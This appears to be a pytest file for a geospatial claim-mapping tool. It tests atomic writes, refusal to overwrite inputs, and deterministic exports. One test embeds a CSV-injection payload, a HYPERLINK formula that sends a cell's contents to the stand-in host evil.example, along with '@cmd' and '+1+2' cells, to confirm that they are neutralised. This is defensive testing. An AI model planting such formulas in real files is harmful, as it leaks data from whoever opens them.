"""Outputs never clobber inputs, are written whole or not at all, and say what they hold.

Each test here failed on the code before issue #8 (the attack it replays is named).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from geomap.api import ingest, make_map
from geomap.cli import app
from geomap.render.html import page_data

runner = CliRunner()
ROW = "{id},2021-05-{day},Goris,gov,AM,asserts,incursion,,t {id},s,,,incident"


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("args", [
    ["x.csv", "-o", "x.csv"],                # the output is the input
    ["x.csv", "--csv", "-o", "x.html"],      # the CSV export is the input
    ["x.csv", "-o", "o.csv", "--csv"],       # the HTML and the CSV export are one file
    ["x.csv", "-o", "o.geojson", "--geojson"],
    ["x.csv", "-o", "link.html"],            # a symbolic link to the input
    ["x.csv", "-o", "."],                    # a directory
])
def test_no_output_overwrites_an_input_or_another_output(args, write_csv, tmp_path,
                                                         monkeypatch):
    write_csv([ROW.format(id="a", day=12)], name="x.csv")
    (tmp_path / "link.html").symlink_to(tmp_path / "x.csv")
    monkeypatch.chdir(tmp_path)
    before = _files(tmp_path)
    result = runner.invoke(app, ["map", *args])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: ") and "Traceback" not in result.output
    assert _files(tmp_path) == before  # nothing written, nothing changed


def test_an_export_never_replaces_the_store(write_csv, tmp_path):
    store = tmp_path / "incidents.gpkg"
    ingest([write_csv([ROW.format(id="a", day=12)])], store=store)
    before = store.read_bytes()
    result = runner.invoke(app, ["map", "--store", str(store), "-o",
                                 str(tmp_path / "incidents.html"), "--gpkg"])
    assert result.exit_code == 1 and "is one of the inputs" in result.stderr
    assert store.read_bytes() == before
    # and ingest refuses to make a store of one of its inputs
    claims = write_csv([ROW.format(id="b", day=13)], name="b.csv")
    result = runner.invoke(app, ["ingest", str(claims), "--store", str(claims)])
    assert result.exit_code == 1 and "is one of the inputs" in result.stderr


def test_extract_never_overwrites_its_report(tmp_path):
    report = tmp_path / "r.txt"
    report.write_text("Armenia's defence ministry said troops advanced near Goris.\n")
    before = report.read_bytes()
    result = runner.invoke(app, ["extract", str(report), "-o", str(report)])
    assert result.exit_code == 1 and report.read_bytes() == before


FULL_DISK = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
from geomap.cli import main
sys.argv = ["geomap"] + {args!r}
main()
"""


@pytest.mark.parametrize("kinds", [[], ["--png"], ["--pdf", "--png", "--gpkg"]])
def test_a_full_disk_leaves_nothing_behind(kinds, write_csv, tmp_path):
    """Files may grow to 64 kB only: no output fits. Nothing may be written, not even part
    of a file, no temporary file may stay, and the error is one line."""
    claims = write_csv([ROW.format(id="a", day=12)])
    out = tmp_path / "out" / "m.html"
    args = ["map", str(claims), "-o", str(out), *kinds]
    run = subprocess.run([sys.executable, "-c", FULL_DISK.format(limit=64_000, args=args)],
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 1, run.stderr
    assert run.stderr.startswith("Error: ") and "Traceback" not in run.stderr
    assert not out.parent.exists() or list(out.parent.iterdir()) == []


GPKG_FULL_DISK = """
import resource, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
from geomap.errors import OutputError
from geomap.export import write_gpkg
rows = [{{"id": f"c{{i}}", "text": "x" * 300, "lat": 39.5, "lon": 46.3}} for i in range(3000)]
try:
    write_gpkg({path!r}, rows, [], {{}})
except OutputError as err:
    print("OutputError", err)
"""


def test_a_full_disk_during_the_geopackage_leaves_nothing_behind(tmp_path):
    path = tmp_path / "m.gpkg"
    run = subprocess.run([sys.executable, "-c", GPKG_FULL_DISK.format(path=str(path))],
                         capture_output=True, text=True, timeout=300)
    assert run.stdout.startswith("OutputError"), run.stdout + run.stderr
    assert list(tmp_path.iterdir()) == []


def test_nothing_is_written_unless_every_output_succeeds(write_csv, tmp_path, monkeypatch):
    import geomap.export

    def broken(*_a, **_k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(geomap.export, "gpkg_to", broken)
    out = tmp_path / "m.html"
    out.write_text("the analyst's earlier map")
    with pytest.raises(OSError):
        make_map([write_csv([ROW.format(id="a", day=12)])], out=out,
                 exports=("geojson", "gpkg"))
    assert out.read_text() == "the analyst's earlier map"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.csv", "m.html"]


@pytest.mark.parametrize("kind", ["png", "pdf"])
def test_a_disk_filling_up_during_a_sheet_leaves_nothing_behind(kind, write_csv, tmp_path,
                                                                monkeypatch):
    real = Path.write_bytes

    def half_then_full(self, data):
        real(self, data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", half_then_full)
    result = runner.invoke(app, ["map", str(write_csv([ROW.format(id="a", day=12)])),
                                 "-o", str(tmp_path / "out" / "m.html"), f"--{kind}"])
    assert result.exit_code == 1 and "No space left" in result.stderr
    assert list((tmp_path / "out").iterdir()) == []


def test_bbox_and_csv_export_hold_the_same_claims(write_csv, tmp_path):
    path = write_csv([ROW.format(id="in", day=12),
                      "far,2021-05-12,Baku,gov,AZ,denies,incursion,,t,s,,,incident",
                      "nowhere,2021-05-12,Qwertyville,gov,AZ,denies,incursion,,t,s,,,incident"])
    out = tmp_path / "m.html"
    result = make_map([path], out=out, bbox=(45.0, 38.5, 47.0, 40.0),
                      exports=("csv", "geojson"))
    assert result.claims_mapped == 1 and len(result.unplaced) == 1
    ids = [line.split(",")[10] for line in out.with_suffix(".csv").read_text().splitlines()[1:]]
    assert sorted(ids) == ["in", "nowhere"]
    manifest = json.loads(out.with_suffix(".csv.manifest.json").read_text())
    assert manifest["claims_in"] == 2


def test_the_same_claims_from_a_file_and_the_store_are_mapped_once(write_csv, tmp_path):
    path = write_csv([ROW.format(id="a", day=12), ROW.format(id="b", day=13)])
    store = tmp_path / "s.gpkg"
    ingest([path], store=store)
    result = make_map([path], store=store, out=tmp_path / "m.html")
    assert result.claims_in == 2 and result.duplicates == 2
    data = _manifest(result.path)
    assert data["duplicates_merged"] == 2 and data["claims_in"] == 2
    assert any("mapped once" in n for n in result.notes)


def test_a_report_naming_no_place_is_listed_unplaced(tmp_path):
    report = tmp_path / "r.txt"
    report.write_text("date: 2021-05-14\n\nArmenian Prime Minister Nikol Pashinian said on "
                      "Wednesday that troops had crossed the border. \"They must withdraw,\" "
                      "he said.\n")
    result = make_map([report], out=tmp_path / "r.html")
    assert result.claims_in >= 1
    assert result.claims_in == result.claims_mapped + len(result.unplaced)
    assert all(u["reason"] == "the claim names no place" for u in result.unplaced)


def _manifest(path: Path) -> dict:
    text = path.read_text(encoding="utf-8")
    return page_data(text)


def test_the_geopackage_export_is_the_same_bytes_every_run(write_csv, tmp_path):
    path = write_csv([ROW.format(id="a", day=12)])
    first = make_map([path], out=tmp_path / "1" / "m.html", exports=("gpkg",))
    second = make_map([path], out=tmp_path / "2" / "m.html", exports=("gpkg",))
    assert (tmp_path / "1" / "m.gpkg").read_bytes() == (tmp_path / "2" / "m.gpkg").read_bytes()
    assert first.written[-1].suffix == ".gpkg" and second.claims_in == 1


def test_lookup_json_is_the_same_whatever_the_hash_seed():
    outs = set()
    for seed in ("1", "2", "3", "4"):
        run = subprocess.run([sys.executable, "-c", "from geomap.cli import main; main()",
                              "gazetteer", "lookup", "Russia", "--json"], capture_output=True,
                             text=True, env={**os.environ, "PYTHONHASHSEED": seed}, timeout=120)
        assert run.returncode == 0, run.stderr
        outs.add(run.stdout)
    assert len(outs) == 1
    assert json.loads(outs.pop())[0]["matched"] == "Russia"


def test_lookup_limit_must_be_positive():
    result = runner.invoke(app, ["gazetteer", "lookup", "Goris", "--limit", "-5"])
    assert result.exit_code == 2 and "no place named" not in result.output


def test_map_reads_reports_in_the_encoding_given(tmp_path):
    report = tmp_path / "r.txt"
    report.write_bytes("Министерство обороны Армении said troops advanced near Goris on "
                       "12 May 2021.\n".encode("cp1251"))
    result = runner.invoke(app, ["map", str(report), "-o", str(tmp_path / "m.html")])
    assert result.exit_code == 1 and "--encoding" in result.stderr
    result = runner.invoke(app, ["map", str(report), "--encoding", "cp1251",
                                 "-o", str(tmp_path / "m.html")])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("value", [None, 7, ["AM", "AZ"], {"a": 1}])
def test_a_layers_odd_properties_are_read_as_text(value, tmp_path):
    layer = tmp_path / "l.geojson"
    layer.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"countries": value, "name": value},
         "geometry": {"type": "LineString", "coordinates": [[46.2, 39.3], [46.5, 39.6]]}}]}))
    result = runner.invoke(app, ["map", "--layer", f"{layer}:international",
                                 "-o", str(tmp_path / "m.html")])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("bbox", ["1_0,2,3,4", "nan,1,2,3", "1,2,3", "3,2,1,4", "1,2,3,95"])
def test_a_bad_bbox_is_a_clear_error(bbox, tmp_path):
    result = runner.invoke(app, ["map", "--bbox", bbox, "-o", str(tmp_path / "m.html")])
    assert result.exit_code == 1 and result.stderr.startswith("Error: --bbox")


def test_dollar_signs_are_drawn_as_written(write_csv, tmp_path):
    """matplotlib reads "$5 and $10" as mathematics ("5and10") unless told not to; an
    unbalanced "$\\frac" was a traceback after the HTML had been written."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from geomap.render.static import draw_sheet

    claims = [{"lat": 39.5, "lon": 46.3, "date": "2021-05-12", "place_name": "$x$ place",
               "claimant": "cost $5 and $10", "stance": "asserts", "event": "clash",
               "claimant_side": "AM", "id": "a", "precision": "point", "country": "AM"}]
    sides = [{"side": "AM", "colour": "#E69F00", "label": "AM $\\frac", "claims": 1}]
    fig = plt.figure(figsize=(11.69, 8.27))
    draw_sheet(fig, view=(45, 38, 48, 41), layers=[], areas=None, bands=None, claims=claims,
               sides=sides, title="Title $5 and $10", date_range="12 May 2021",
               sources=[{"source": "$\\frac{", "publisher": "", "url": ""}],
               manifest={"generator": "geomap", "gazetteer": "g"}, with_table=True)
    plt.rcParams["svg.fonttype"] = "none"  # text as text, to read it back
    import io

    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    svg = buf.getvalue()
    for written in ("Title $5 and $10", "cost $5 and $10", "AM $\\frac", "$x$ place"):
        assert f">{written}" in svg  # drawn as one run of text (a comment holds it too)


def test_csv_cells_never_run_as_spreadsheet_formulas(write_csv, tmp_path):
    """A claim's text "=HYPERLINK(...)" would run in the analyst's spreadsheet; the CSV
    carries it as text ("'=..."), and geomap reads it back exactly."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = write_csv([f'a,2021-05-12,Goris,"{formula.replace(chr(34), chr(34) * 2)}",AM,'
                      'asserts,incursion,@cmd,+1+2,-,,,incident'])
    out = tmp_path / "out" / "m.html"
    make_map([path], out=out, exports=("csv",))
    text = out.with_suffix(".csv").read_text()
    for cell in ("'=HYPERLINK", "'@cmd", "'+1+2", "'-"):
        assert cell in text
    again = make_map([out.with_suffix(".csv")], out=tmp_path / "again.html", exports=("csv",))
    assert again.claims_in == 1
    assert (tmp_path / "again.csv").read_text() == text  # read back exactly, written the same
    from geomap.read import read_claims

    claim = read_claims([out.with_suffix(".csv")])[0]
    assert (claim.claimant, claim.actor, claim.text, claim.source) == (formula, "@cmd", "+1+2",
                                                                      "-")


SLOW_GPKG = """
import sys, time
import geomap.export
def slow(tmp, **_kwargs):
    tmp.write_bytes(b"half a GeoPackage")
    time.sleep(60)
geomap.export.gpkg_to = slow
from geomap.cli import main
sys.argv = ["geomap"] + {args!r}
main()
"""


def test_a_polite_kill_removes_the_temporary_files(write_csv, tmp_path):
    """SIGTERM while the exports are written: nothing is left, not even hidden files."""
    import signal
    import time

    out = tmp_path / "out" / "m.html"
    args = ["map", str(write_csv([ROW.format(id="a", day=12)])), "-o", str(out), "--gpkg"]
    proc = subprocess.Popen([sys.executable, "-c", SLOW_GPKG.format(args=args)],
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not (out.parent.exists() and any(out.parent.iterdir())):
        assert time.monotonic() < deadline and proc.poll() is None, proc.stderr.read()
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 130
    assert list(out.parent.iterdir()) == []


def test_temporary_files_of_a_killed_run_are_swept_by_the_next(write_csv, tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    out = tmp_path / "out"
    out.mkdir()
    stale = out / f".m.html.{dead.pid}.x1y2.tmp.html"
    stale.write_text("half a page")
    make_map([write_csv([ROW.format(id="a", day=12)])], out=out / "m.html")
    assert sorted(p.name for p in out.iterdir()) == ["m.html"]


def test_outputs_never_replace_a_store_or_a_stream(write_csv, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    claims = write_csv([ROW.format(id="a", day=12)])
    ingest([claims], store=tmp_path / "st.gpkg")
    before = (tmp_path / "st.gpkg").read_bytes()
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "target.html").write_text("x")
    (tmp_path / "stdout").symlink_to(tmp_path / "target.html")  # as /dev/stdout may be
    for args in (["map", str(claims), "-o", "st.html", "--gpkg"],       # the store not given
                 ["extract", str(claims), "-o", "st.gpkg"],
                 ["map", str(claims), "-o", "pipe"],
                 ["extract", str(claims), "-o", "stdout"]):
        result = runner.invoke(app, args)
        assert result.exit_code == 1 and result.stderr.startswith("Error: "), args
    assert (tmp_path / "st.gpkg").read_bytes() == before
    assert (tmp_path / "stdout").is_symlink() and (tmp_path / "target.html").read_text() == "x"


def test_a_shapefile_layers_parts_are_inputs(write_csv, tmp_path):
    import geopandas as gpd
    from shapely.geometry import LineString

    shp = tmp_path / "bl.shp"
    gpd.GeoDataFrame({"name": ["l"]}, geometry=[LineString([(46.2, 39.3), (46.5, 39.6)])],
                     crs=4326).to_file(shp)
    before = (tmp_path / "bl.dbf").read_bytes()
    result = runner.invoke(app, ["map", str(write_csv([ROW.format(id="a", day=12)])),
                                 "--layer", f"{shp}:international", "-o",
                                 str(tmp_path / "bl.dbf")])
    assert result.exit_code == 1 and "is one of the inputs" in result.stderr
    assert (tmp_path / "bl.dbf").read_bytes() == before


def test_a_very_long_output_name_works(write_csv, tmp_path):
    name = "a" * 240
    result = make_map([write_csv([ROW.format(id="a", day=12)])], out=tmp_path / f"{name}.html")
    assert result.path.exists()
    ingest([write_csv([ROW.format(id="b", day=12)], name="b.csv")],
           store=tmp_path / f"{name}.gpkg")
    assert (tmp_path / f"{name}.gpkg").exists()


def test_names_that_are_not_utf8_are_shown_with_a_replacement_character(write_csv, tmp_path):
    """A file name from a Windows archive (cp1251 bytes), a title given in a legacy
    terminal: shown with U+FFFD, never an internal error."""
    odd = os.fsdecode(b"n\xffame")
    claims = write_csv([ROW.format(id="a", day=12)], name=f"{odd}.csv")
    store = tmp_path / f"{odd}.gpkg"
    result = runner.invoke(app, ["ingest", str(claims), "--store", str(store)])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["map", str(claims), "--store", str(store), "--title",
                                 os.fsdecode(b"T\xfft"), "-o", str(tmp_path / f"{odd}-map.html"),
                                 "--png", "--gpkg", "--kml", "--csv"])
    assert result.exit_code == 0, result.output
    page = (tmp_path / f"{odd}-map.html").read_text(encoding="utf-8")
    assert "n\ufffdame.csv" in page and "T\ufffdt" in page
